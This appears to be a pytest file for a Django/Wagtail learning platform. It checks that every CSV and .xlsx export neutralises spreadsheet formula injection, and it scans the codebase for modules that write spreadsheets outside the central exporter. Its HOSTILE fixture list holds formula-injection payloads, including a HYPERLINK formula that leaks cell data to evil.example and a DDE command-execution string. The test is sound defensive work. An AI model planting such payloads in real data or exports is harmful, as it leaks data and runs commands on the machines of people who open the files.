"""Formula injection through exports (issue 29, finding 4): a hostile name in every text
column a person can type, every export found by walking the URL patterns, as CSV and .xlsx;
no cell may start a formula. And no module writes a spreadsheet except through lms.exports."""

import csv
import datetime
import io
import itertools
import re
from pathlib import Path

import pytest
from django.conf import settings
from django.core.cache import cache
from django.urls import URLPattern, URLResolver, get_resolver
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.models import Page

from lms.exports import FORMULA_STARTS

from .conftest import client_for

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A3,"Xem")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "\t=1",
    "\r=1",
]
NUMBER = re.compile(r"-?\d+([.,]\d+)?")
# A route that names a download: such views take ids, so the walk fills them in.
EXPORT_HINTS = ("xuat", "tai-ve", ".xlsx", ".csv", "export")
REPORTS = "admin/bao-cao/"
CONVERTER = re.compile(r"<(?:(\w+):)?(\w+)>")


def _plant(world) -> None:
    """A hostile value in every text a person can type that an export shows: people's names,
    unit names, page titles (courses, lessons, quizzes), question categories and text,
    competences and areas, certificates' names."""
    from competencies.models import Area, Competence
    from courses.services import enrollment_create
    from people.models import OrgUnit, User
    from quizzes.models import Question, QuestionCategory

    # Someone to call: an assigned course not started, in commune A's team.
    enrollment_create(
        user=world.users["team_leader"],
        course=world.objects["course"],
        source="assigned",
        assigned_by=world.users["manager_a"],
        due_on=datetime.date(2026, 1, 15),
    )
    payloads = itertools.cycle(HOSTILE)
    for model, fields in (
        (User, ["full_name", "first_name", "last_name"]),
        (OrgUnit, ["name"]),
        (Page, ["title", "draft_title"]),
        (QuestionCategory, ["name"]),
        (Question, ["text", "feedback"]),
        (Competence, ["name", "name_en", "description"]),
        (Area, ["name", "name_en"]),
    ):
        queryset = model.objects.all() if model is not Page else Page.objects.filter(depth__gt=2)
        for pk in queryset.values_list("pk", flat=True):
            value = next(payloads)
            model.objects.filter(pk=pk).update(**dict.fromkeys(fields, value))
    world.objects["certificate"].__class__.objects.update(
        holder_name=HOSTILE[0], course_title=HOSTILE[1]
    )
    cache.clear()


def _walk(patterns, prefix=""):
    for pattern in patterns:
        route = prefix + str(pattern.pattern).lstrip("^").rstrip("$")
        if isinstance(pattern, URLResolver):
            yield from _walk(pattern.url_patterns, route)
        elif isinstance(pattern, URLPattern):
            yield route, pattern.callback


def _is_spreadsheet_list(callback) -> bool:
    """A list or report view that exports: Wagtail's mixin with columns to export (on the
    class, or given to `as_view` by a viewset)."""
    view_class = getattr(callback, "view_class", None)
    if not (isinstance(view_class, type) and issubclass(view_class, SpreadsheetExportMixin)):
        return False
    initkwargs = getattr(callback, "view_initkwargs", {})
    return bool(initkwargs.get("list_export", view_class.list_export))


def _urls(route: str, ids: list[int]):
    """Concrete URLs for `route`: ints filled with each candidate id, strings with formats."""
    if "(" in route:
        return []
    slots = CONVERTER.findall(route)
    choices = [ids if kind in ("int", "") else ["xlsx", "csv"] for kind, _ in slots]
    urls = []
    for values in itertools.product(*choices):
        values = iter(values)
        urls.append("/" + CONVERTER.sub(lambda _m, v=values: str(next(v)), route))
    return urls


def _exports(world):
    """(name, url) of every export: every list or report view with spreadsheet export (asked
    for `?export=csv|xlsx`, with the report filters set to every unit and the course), and
    every route that names a download."""
    ids = sorted(
        {obj.pk for obj in world.objects.values() if hasattr(obj, "pk")}
        | {unit.pk for unit in world.units.values()}
        | {world.objects["competence"].area.framework_id}
    )
    course, team, commune = world.objects["course"].pk, world.units["x"].pk, world.units["a"].pk
    # A report's rows change with its filters: units (commune A's teams) and learners (team X).
    report_filters = [{}, {"unit": commune}, {"unit": team}, {"unit": team, "course": course}]
    for route, callback in _walk(get_resolver().url_patterns):
        if _is_spreadsheet_list(callback) and not CONVERTER.search(route):
            report = route.startswith(REPORTS)
            for fmt, query in itertools.product(
                ("csv", "xlsx"), report_filters[: 4 if report else 1]
            ):
                yield route, "/" + route, {**query, "export": fmt}
        elif any(hint in route for hint in EXPORT_HINTS):
            for url in _urls(route, ids):
                yield route, url, {}


def _cells(response) -> tuple[str, list]:
    """('csv'|'xlsx', every data cell as (value, quote_prefixed, is_formula))."""
    body = b"".join(response.streaming_content) if response.streaming else response.content
    content_type = response["Content-Type"]
    if "csv" in content_type:
        text = body.decode("utf-8-sig")
        return "csv", [
            (v, False, False) for row in csv.reader(io.StringIO(text, newline="")) for v in row
        ]
    if "spreadsheetml" in content_type:
        book = load_workbook(io.BytesIO(body))
        return "xlsx", [
            (cell.value, bool(cell.quotePrefix), cell.data_type == "f")
            for sheet in book.worksheets
            for row in sheet.iter_rows()
            for cell in row
        ]
    return "", []


def _unsafe(value, quote_prefixed: bool, is_formula: bool) -> bool:
    if is_formula:
        return True
    if not isinstance(value, str) or quote_prefixed or not value.startswith(FORMULA_STARTS):
        return False
    return not NUMBER.fullmatch(value)  # a negative number written as a number is no formula


def _hostile(value) -> bool:
    return isinstance(value, str) and any(payload in value for payload in HOSTILE)


@pytest.mark.django_db
def test_no_export_carries_a_formula(world):
    _plant(world)
    # The reports as commune A's manager (their scope), everything else as the administrator.
    manager, admin = client_for(world, "manager_a"), client_for(world, "admin")
    found: dict[str, int] = {}
    unsafe = []
    for route, url, query in _exports(world):
        response = (manager if route.startswith(REPORTS) else admin).get(url, query)
        if response.status_code != 200:
            continue
        fmt, cells = _cells(response)
        if not fmt:
            continue
        key = f"{route} {fmt}"
        found[key] = found.get(key, 0) + sum(1 for value, *_ in cells if _hostile(value))
        unsafe += [(url, query, value) for value, *marks in cells if _unsafe(value, *marks)]
    assert not unsafe, unsafe[:10]
    # The walk found the exports, and the hostile names reached them: every report, in both
    # formats, and the downloads that carry typed text (question bank, competence framework).
    reports = {route for route in found if route.startswith(REPORTS)}
    assert len(reports) >= 12, sorted(found)
    for expected in (
        "admin/bao-cao/hoan-thanh/ csv",
        "admin/bao-cao/hoan-thanh/ xlsx",
        "admin/bao-cao/can-nhac-nho/ csv",
        "admin/bao-cao/can-nhac-nho/ xlsx",
        "admin/bao-cao/tong-quan-khoa-hoc/ csv",
        "admin/bao-cao/ket-qua-kiem-tra/ xlsx",
        "admin/bao-cao/khoang-trong-nang-luc/ csv",
        "admin/kiem-tra/xuat/<int:category_id>/<str:fmt>/ xlsx",
        "admin/khung-nang-luc/<int:pk>/tai-ve.xlsx xlsx",
    ):
        assert found.get(expected, 0) > 0, (expected, found)


# --- static: nothing writes a spreadsheet by itself ----------------------------------------

APPS = ("lms", "people", "competencies", "courses", "quizzes", "certificates", "reports")
WRITERS = re.compile(
    r"csv\.writer|csv\.DictWriter|\bWorkbook\(|write_csv_row|\.writerow\(|xlsxwriter"
)


def test_no_module_writes_a_spreadsheet_except_through_the_writer():
    base = Path(settings.BASE_DIR)
    offenders = [
        f"{path.relative_to(base)}:{number}"
        for app in APPS
        for path in (base / app).rglob("*.py")
        if path != base / "lms" / "exports.py" and "migrations" not in path.parts
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1)
        if WRITERS.search(line)
    ]
    assert offenders == []
